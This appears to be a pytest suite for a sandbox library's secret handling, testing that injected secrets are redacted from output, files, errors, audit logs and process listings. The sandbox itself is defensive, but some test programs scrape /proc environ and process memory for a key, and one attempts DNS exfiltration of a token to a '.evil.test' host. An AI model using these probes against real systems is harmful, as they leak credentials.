"""Secrets of a run: the program has them, and nothing that comes out does. In every language, cold and warm."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import os
import threading
import zipfile
from collections.abc import Generator, Iterable
from pathlib import Path
from typing import Any, cast

import pytest
from tests.contract.programs_with_secrets import (
    BEGUN,
    FAILED,
    FILES,
    IN_TWO,
    LONG_ERRORS,
    LOOK_FOR_IT,
    MARKER,
    MUCH,
    NAME,
    OF_MANY_KINDS,
    ON_BOTH,
    PRINTED,
    REVERSED,
    WAIT,
    S,
)
from tests.support.whole import whole

from casemate import Done, Event, Execution, Inject, InvalidArgument, Limits, Output, sync
from casemate.audit.log import AuditLog


@pytest.fixture(autouse=True)
def _has_the_secret(sandbox: sync.Sandbox) -> None:
    sandbox.vault.set(NAME, S)


def said(events: Iterable[Event]) -> list[Output]:
    """What the program wrote, as a consumer gets it."""
    return [event for event in events if isinstance(event, Output)]


def everything(execution: Execution) -> str:
    """All that an execution holds, contents of files included."""
    files = [one.read_bytes() for one in (*execution.artifacts, *filter(None, [execution.full_output]))]
    shown = [dict(result) for result in execution.results]
    return (
        repr((execution, shown, files)) + json.dumps(shown) + "".join(data.decode("utf-8", "replace") for data in files)
    )


def rows(sandbox: sync.Sandbox, execution: Execution) -> list[dict[str, Any]]:
    """What the record says of it."""
    with contextlib.closing(AuditLog(sandbox.asynchronous._log.path)) as log:
        return [json.loads(row.detail) for row in log.tail(1000) if row.execution_id == execution.id]


def assert_hidden(sandbox: sync.Sandbox, execution: Execution) -> None:
    told = everything(execution) + json.dumps(rows(sandbox, execution))
    for form in (S, json.dumps(S)[1:-1], repr(S)[1:-1], base64.b64encode(S.encode()).decode()[:-4]):
        assert form not in told


def test_va_06_the_program_sees_the_value_itself_and_can_give_it_away_as_documented(
    sandbox: sync.Sandbox, language: str
) -> None:
    execution = sandbox.run(REVERSED[language], language=language, secrets=[NAME])
    assert execution.stdout == f"{len(S)} {S[::-1]}\n"
    told = (Path(__file__).resolve().parents[2] / "docs" / "how-to" / "secrets.md").read_text()
    assert "Code can still give one away on purpose. It can reverse a secret" in told


def test_va_01_a_printed_secret_is_in_nothing_that_comes_out(sandbox: sync.Sandbox, language: str) -> None:
    execution = sandbox.run(PRINTED[language], language=language, secrets=[NAME])
    assert (execution.status, execution.stdout, execution.text) == ("ok", f"{MARKER}\n", MARKER)
    assert_hidden(sandbox, execution)


def test_va_01_a_printed_secret_is_in_no_event(sandbox: sync.Sandbox, language: str) -> None:
    events: list[Event] = list(sandbox.stream(PRINTED[language], language=language, secrets=[NAME]))
    assert S not in whole(events)
    assert "".join(event.text for event in said(events)) == f"{MARKER}\n"
    assert S.encode() not in b"".join(event.data for event in said(events))


def test_va_02_a_secret_is_in_no_error_warning_traceback_or_repr(sandbox: sync.Sandbox, language: str) -> None:
    execution = sandbox.run(FAILED[language], language=language, secrets=[NAME])
    assert execution.status == "failed"
    assert MARKER in execution.stderr
    assert_hidden(sandbox, execution)


def test_va_03_a_secret_in_two_pieces_reaches_no_consumer(sandbox: sync.Sandbox, language: str) -> None:
    events = said(sandbox.stream(IN_TWO[language], language=language, secrets=[NAME]))
    assert "".join(event.text for event in events) == f"{MARKER} "
    assert b"".join(event.data for event in events) == f"{MARKER} ".encode()


def test_va_04_nothing_of_a_secret_is_left_where_output_is_cut(wall: str, language: str, tmp_path: Path) -> None:
    limits = Limits(output=20_001, full_output=100_003)
    with sync.Sandbox(isolation=wall, audit=tmp_path / "audit.db", limits=limits) as one:
        one.vault.set(NAME, S)
        events = list(one.stream(MUCH[language], language=language, secrets=[NAME]))
    assert isinstance(events[-1], Done)
    execution = events[-1].execution
    assert execution.truncated
    assert execution.full_output is not None
    assert execution.cause is not None
    assert execution.cause.code == "output_limit"
    for text in (execution.stdout, execution.full_output.read_bytes().decode(), whole(events)):
        assert S[:4] not in text
        assert S[-8:] not in text


@pytest.mark.full
def test_va_04_nothing_of_a_secret_is_left_where_a_program_is_ended(sandbox: sync.Sandbox, language: str) -> None:
    execution = sandbox.run(BEGUN[language], language=language, secrets=[NAME], timeout=4)
    assert (execution.status, execution.stdout) == ("timeout", f"so: {MARKER}")


def test_va_04_nothing_of_a_secret_is_left_where_a_program_is_killed_by_a_signal(sandbox: sync.Sandbox) -> None:
    begun = "printf 'so: %s' \"${API_TOKEN:0:9}\"; kill -KILL $$"
    execution = sandbox.run(begun, language="shell", secrets=[NAME])
    assert (execution.status, execution.stdout) == ("failed", f"so: {MARKER}")


def test_a_secret_half_on_stdout_and_half_on_stderr_is_not_put_together(sandbox: sync.Sandbox, language: str) -> None:
    execution = sandbox.run(ON_BOTH[language], language=language, secrets=[NAME])
    assert (execution.stdout, execution.stderr) == (S[:9], S[9:])
    assert S not in execution.text


def test_va_07_files_are_redacted_or_withheld_and_so_are_their_names(wall: str, language: str, tmp_path: Path) -> None:
    with sync.Sandbox(isolation=wall, audit=tmp_path / "audit.db", output_dir=tmp_path / "out") as one:
        one.vault.set(NAME, S)
        one.vault.set("API_NAME", S.replace("/", "-"))
        execution = one.run(FILES[language], language=language, secrets=[NAME, "API_NAME"])
        assert_hidden(one, execution)
    contents = {file.name: file.read_bytes() for file in execution.artifacts}
    name = "[secret:API_NAME]"
    assert contents == {f"output/{name}.txt": f"a {MARKER}".encode(), f"{name}/inner.txt": b"x", "plain.txt": b"p"}
    assert {one.name for one in execution.skipped} == {"output/raw.bin", f"{name}/link"}
    assert all(file.sha256 == hashlib.sha256(contents[file.name]).hexdigest() for file in execution.artifacts)
    exported = list((tmp_path / "out").rglob("*"))
    assert sorted(path.name for path in exported if path.is_file()) == [
        "[secret:API_NAME].txt",
        "inner.txt",
        "plain.txt",
    ]
    assert not any(S[4:] in str(path) or S.encode() in path.read_bytes() for path in exported if path.is_file())


def test_va_07_pictures_notebooks_and_archives_are_looked_into(sandbox: sync.Sandbox) -> None:
    execution = sandbox.run(OF_MANY_KINDS, secrets=[NAME])
    assert_hidden(sandbox, execution)
    contents = {file.name: file.read_bytes() for file in execution.artifacts}
    assert set(contents) == {"n.ipynb", "ok.zip"}
    assert json.loads(contents["n.ipynb"]) == {"cells": [{"source": [MARKER]}]}
    assert zipfile.ZipFile(io.BytesIO(contents["ok.zip"])).read("in.txt") == b"x" * 5000
    assert {one.name for one in execution.skipped} == {"a.png", "z.zip"}
    (shown,) = execution.results
    assert dict(shown) == {
        "image/png": MARKER, "text/plain": "a picture", "application/json": [MARKER, {MARKER: MARKER}],
        "text/html": MARKER,
    }  # fmt: skip
    assert execution.images == ()


@pytest.mark.full
@pytest.mark.parametrize("n", [0, 14])
@pytest.mark.parametrize("failing", LONG_ERRORS)
def test_va_04_an_error_that_is_cut_shows_nothing_of_it(sandbox: sync.Sandbox, failing: str, n: int) -> None:
    execution = sandbox.run(LONG_ERRORS[failing].replace("{n}", str(n)), language=failing, secrets=[NAME])
    assert execution.error is not None
    for text in (execution.error.value, execution.error.traceback):
        left = text.replace(MARKER, "")
        assert "…" in left
        assert not [S[at : at + 4] for at in range(len(S) - 3) if S[at : at + 4] in left]


@pytest.mark.parametrize(
    "value", ["a.*b$\"'\\ d\n[x]", "Amélie-pass-é", "x" * 16_000, "-----BEGIN\nMIIEow/+\nIBAAK==\n-----END\n"]
)
def test_va_08_a_secret_of_any_characters_arrives_and_is_hidden(
    sandbox: sync.Sandbox, language: str, value: str
) -> None:
    sandbox.vault.set("ODD", value)
    code = {
        "python": "import os, json; t = os.environ['ODD']; print(len(t), [t], json.dumps(t), t, sep='|')",
        "node": "const t = process.env.ODD; console.log([...t].length, [t].length, JSON.stringify(t), t)",
        "shell": 'printf "%d %q|%s|%s\\n" ${#ODD} "$ODD" $ODD "$ODD"',
    }
    execution = sandbox.run(code[language], language=language, secrets=["ODD"])
    assert execution.stdout.startswith(f"{len(value)}")
    assert value.strip() not in execution.stdout
    assert json.dumps(value)[1:-1] not in execution.stdout
    assert execution.stdout.count("[secret:ODD]") >= 2


def test_va_10_of_two_secrets_the_longer_is_hidden_whole(sandbox: sync.Sandbox, language: str) -> None:
    sandbox.vault.set("SHORT", "password")
    sandbox.vault.set("LONG", "password-and-more")
    code = {
        "python": "import os; print(os.environ['LONG'], os.environ['SHORT'])",
        "node": "console.log(process.env.LONG, process.env.SHORT)",
        "shell": "echo $LONG $SHORT",
    }
    execution = sandbox.run(code[language], language=language, secrets=["SHORT", "LONG"])
    assert execution.stdout == "[secret:LONG] [secret:SHORT]\n"


@pytest.mark.parametrize("language", ["python", "shell"])
def test_va_11_a_run_without_secrets_finds_nothing_of_the_one_before(sandbox: sync.Sandbox, language: str) -> None:
    before = sandbox.run(PRINTED[language], language=language, secrets=[NAME])
    assert before.stdout == f"{MARKER}\n"
    execution = sandbox.run(LOOK_FOR_IT[language], language=language, env={"WANTED": S[::-1]})
    assert execution.stdout.replace(" ", "") == "found[]\n"
    found = sandbox.run(LOOK_FOR_IT[language], language=language, env={"WANTED": S[::-1]}, secrets=[NAME])
    assert found.stdout.replace(" ", "") != "found[]\n"  # it looks where one would be


@pytest.mark.parametrize("name", ["NOBODYS", "api_token", "API_TOKEN ", "A/../API_TOKEN", "LD_PRELOAD", "PATH", ""])
def test_va_12_an_unknown_name_is_refused_before_anything_starts(
    sandbox: sync.Sandbox, language: str, name: str
) -> None:
    with contextlib.closing(AuditLog(sandbox.asynchronous._log.path)) as log:
        before = log.head().count
        attempts: tuple[Any, ...] = (sandbox.run, sandbox.session)
        for attempt in attempts:
            with pytest.raises(InvalidArgument, match="secrets"):
                attempt(**{"run": {"code": "x"}}.get(attempt.__name__, {}), language=language, secrets=[NAME, name])
        assert log.head().count == before


def test_va_12_another_namespace_cannot_name_them(sandbox: sync.Sandbox, wall: str, tmp_path: Path) -> None:
    from casemate.vault.store import MemoryStore

    store = MemoryStore()
    with (
        sync.Sandbox(isolation=wall, audit=tmp_path / "a.db", vault=store, namespace="a") as mine,
        sync.Sandbox(isolation=wall, audit=tmp_path / "a.db", vault=store, namespace="b") as theirs,
    ):
        mine.vault.set(NAME, S)
        assert theirs.vault.names() == ()
        with pytest.raises(InvalidArgument, match="no secret"):
            theirs.run("1", secrets=[NAME])


def test_va_14_no_process_of_the_hosts_or_the_cells_has_it_in_its_command_line(
    sandbox: sync.Sandbox, language: str
) -> None:
    with contextlib.closing(
        cast("Generator[Event]", sandbox.stream(WAIT[language], language=language, secrets=[NAME]))
    ) as events:
        assert [event.text for event in said([next(events)])] == ["here\n"]
        lines = {pid: _read(f"/proc/{pid}/cmdline") for pid in os.listdir("/proc") if pid.isdecimal()}
        with_it = [pid for pid in lines if S.encode() in _read(f"/proc/{pid}/environ")]
    assert any(b"casemate.supervisor" in line for line in lines.values())
    assert not [line for line in lines.values() if S[:12].encode() in line]
    assert not [pid for pid in with_it if b"casemate.supervisor" in lines[pid]]


def _read(path: str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


SEARCH = {  # its memory, its environment, and what /proc shows of all that it can see
    "python": """import os, glob, re
print(os.environ["KEY"])
data = b""
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        data += open(path, "rb").read(1 << 20)
    except OSError:
        pass
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        begin, end = (int(place, 16) for place in line.split()[0].split("-"))
        if "rw-p" in line and end - begin < 1 << 26:
            try:
                memory.seek(begin)
                data += memory.read(end - begin)
            except (OSError, ValueError):
                pass
print(re.search(b"-Real[K]ey-", data) is not None, os.environ["KEY"].encode() in data)
""",
    "node": """const fs = require("fs");
console.log(process.env.KEY);
let data = JSON.stringify(process.env);
for (const file of ["environ", "cmdline"]) data += fs.readFileSync("/proc/self/" + file);
console.log(/-Real[K]ey-/.test(data) ? "True" : "False", data.includes(process.env.KEY) ? "True" : "False");
""",
    "shell": """echo $KEY
grep -q -a -e '-Real[K]ey-' /proc/self/environ && echo -n "True " || echo -n "False "
grep -q -a -e $KEY /proc/self/environ && echo True || echo False
""",
}
KEY = "sk-abcdef-RealKey-0123456789"


def test_va_15_a_program_has_a_placeholder_and_never_the_secret(sandbox: sync.Sandbox, language: str) -> None:
    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
    told = []
    for _ in range(2):
        execution = sandbox.run(SEARCH[language], language=language, secrets=["KEY"])
        placeholder, found = execution.stdout.splitlines()
        assert len(placeholder) == len(KEY)
        assert placeholder.startswith("sk-")
        assert found == "False True", execution.stderr
        assert KEY not in everything(execution) + json.dumps(rows(sandbox, execution))
        told.append(placeholder)
    assert told[0] != told[1]
    plan = sandbox.explain("1", secrets=["KEY"])
    assert plan.secrets.names == ("KEY",)
    assert KEY not in plan.secrets.reveal().values()


def test_va_15_the_secret_itself_is_still_hidden_where_somebody_else_has_said_it(sandbox: sync.Sandbox) -> None:
    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
    execution = sandbox.run(f"print({KEY!r}); raise ValueError({KEY!r})", secrets=["KEY"])
    assert execution.stdout == "[secret:KEY]\n"
    assert KEY not in everything(execution) + json.dumps(rows(sandbox, execution))


def test_va_15_a_session_has_one_placeholder_as_long_as_it_lives(sandbox: sync.Sandbox) -> None:
    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
    with sandbox.session(secrets=["KEY"]) as session, sandbox.session(secrets=["KEY"]) as other:
        mine = {session.run("import os; print(os.environ['KEY'])").stdout for _ in range(2)}
        mine.add(session.run("import subprocess as s; print(s.getoutput('echo $KEY'))").stdout)
        assert len(mine) == 1
        assert other.run("import os; print(os.environ['KEY'])").stdout not in mine
        assert session.run(f"print({KEY!r})").stdout == "[secret:KEY]\n"


def test_va_17_a_secret_that_is_deleted_or_changed_is_not_put_in_for_new_runs(sandbox: sync.Sandbox) -> None:
    sandbox.vault.set("KEY", KEY, inject=Inject(["api.good.test"]))
    with sandbox.session(secrets=["KEY"]) as session:
        before = session.run("import os; print(os.environ['KEY'])").stdout
        sandbox.vault.delete("KEY")
        with pytest.raises(InvalidArgument, match="no secret"):
            sandbox.run("1", secrets=["KEY"])
        assert session.run(f"print({KEY!r}, os.environ['KEY'])").stdout == f"[secret:KEY] {before}"
        sandbox.vault.set("KEY", "a-new-value-of-its")
        assert sandbox.run("import os; print(os.environ['KEY'])", secrets=["KEY"]).stdout == "[secret:KEY]\n"


@pytest.mark.parametrize("inject", [None, Inject(["api.good.test"])], ids=["inside", "outside"])
def test_va_16_the_egress_proxy_tells_of_no_secret(wall: str, tmp_path: Path, inject: Inject | None) -> None:
    value = "Gh0-SecretToken-42"
    code = (
        f"import os, socket\nt = {value!r}\nfor name in (t + '.evil.test', 'x.' + t.lower()):\n"
        "    try: socket.getaddrinfo(name, 443)\n    except OSError: print('refused')"
    )
    allowed = ["good.test", f"{value}.good.test"]
    with sync.Sandbox(isolation=wall, audit=tmp_path / "audit.db", allowed_domains=allowed) as one:
        one.vault.set("HOST_TOKEN", value, inject=inject)
        execution = one.run(code, secrets=["HOST_TOKEN"])
        told = whole(execution) + json.dumps(rows(one, execution))
    assert execution.stdout == "refused\n" * 2
    assert "[secret:HOST_TOKEN].evil.test" in {crossing.host for crossing in execution.crossings}
    assert value.lower() not in told.lower()


def test_va_17_a_secret_that_is_deleted_meanwhile_is_still_hidden_in_the_run_that_has_it(
    sandbox: sync.Sandbox, language: str
) -> None:
    sandbox.vault.set("BRIEF", "brief-secret-value")
    code = {
        "python": "import os, time; print('here', flush=True); time.sleep(0.5); print(os.environ['BRIEF'])",
        "node": "console.log('here'); setTimeout(() => console.log(process.env.BRIEF), 500)",
        "shell": "echo here; sleep 0.5; echo $BRIEF",
    }
    told = ""
    for event in sandbox.stream(code[language], language=language, secrets=["BRIEF"]):
        told += event.text if isinstance(event, Output) else ""
        if told == "here\n" and "BRIEF" in sandbox.vault.names():
            sandbox.vault.delete("BRIEF")
    assert told == "here\n[secret:BRIEF]\n"
    with pytest.raises(InvalidArgument, match="no secret BRIEF"):
        sandbox.run(code[language], language=language, secrets=["BRIEF"])


def test_au_10_rows_hold_no_secret_and_the_hash_of_what_held_one(sandbox: sync.Sandbox) -> None:
    code = f"raise SystemExit({S!r})"
    execution = sandbox.run(
        code, secrets=[NAME], arguments=["-k", S], metadata={"why": S}, files={f"x {S[:11]}.txt": S}
    )
    intent, outcome = rows(sandbox, execution)
    assert S not in json.dumps([intent, outcome])
    assert intent["secrets"] == [NAME]
    assert intent["arguments"] == ["-k", MARKER]
    assert intent["metadata"] == {"why": MARKER}
    assert MARKER in intent["code"]
    assert intent["code_sha256"] == hashlib.sha256(code.encode()).hexdigest()
    assert (
        intent["sha256_of"]["arguments"]
        == hashlib.sha256(json.dumps(["-k", S], separators=(",", ":")).encode()).hexdigest()
    )


def test_a_name_given_twice_is_refused(sandbox: sync.Sandbox) -> None:
    with pytest.raises(InvalidArgument, match="API_TOKEN is given in env, too"):
        sandbox.run("1", secrets=[NAME], env={NAME: "other"})


def test_a_plan_shows_names_and_no_value(sandbox: sync.Sandbox, language: str) -> None:
    from dataclasses import asdict

    plan = sandbox.explain(PRINTED[language], language=language, secrets=[NAME])
    assert plan.secrets.names == (NAME,)
    assert S not in repr(plan)
    assert S not in repr({name: value for name, value in asdict(plan).items() if name != "waiting"})


def test_several_runs_at_once_do_not_mix_their_secrets(sandbox: sync.Sandbox) -> None:
    sandbox.vault.set("OTHER", "another-value-here")
    told: dict[str, str] = {}

    def run(name: str) -> None:
        told[name] = sandbox.run(
            f"import os; print(os.environ[{name!r}], len(os.environ[{name!r}]))", secrets=[name]
        ).stdout

    threads = [threading.Thread(target=run, args=(name,)) for name in (NAME, "OTHER")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert told == {NAME: f"{MARKER} {len(S)}\n", "OTHER": "[secret:OTHER] 18\n"}
